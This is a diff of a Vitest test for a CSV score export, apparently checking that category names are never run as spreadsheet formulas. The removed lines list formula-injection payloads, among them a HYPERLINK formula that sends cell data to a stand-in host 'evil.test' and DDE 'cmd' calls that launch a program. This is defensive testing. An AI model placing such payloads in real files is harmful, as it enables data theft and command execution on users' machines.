@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { scoresCsv } from './scoresCsv';
+import { FORMULA_LIKE_NAMES } from '../../test/fixtures';
 
 const headers = {
   kind: 'Type',
@@ -74,14 +75,7 @@ describe('scoresCsv', () => {
   // docs/security.md, "Exports": a category is named by whoever configures the project; opened in a
   // spreadsheet, the export must show that name, never run it.
   it('writes no cell that a spreadsheet would run as a formula', () => {
-    const names = [
-      '=HYPERLINK("http://evil.test/?"&A1,"click")',
-      "+1+cmd|' /C calc'!A0",
-      "-2+3+cmd|' /C calc'!A0",
-      "@SUM(1+1)*cmd|' /C calc'!A0",
-      '\t=1+1',
-      '\r=1+1',
-    ];
+    const names = FORMULA_LIKE_NAMES;
     const row = { tp: 1, fp: 0, fn: 0, precision: 1, sensitivity: 1, expected: 1, detected: 1, falses: 0 };
     const csv = scoresCsv(
       {
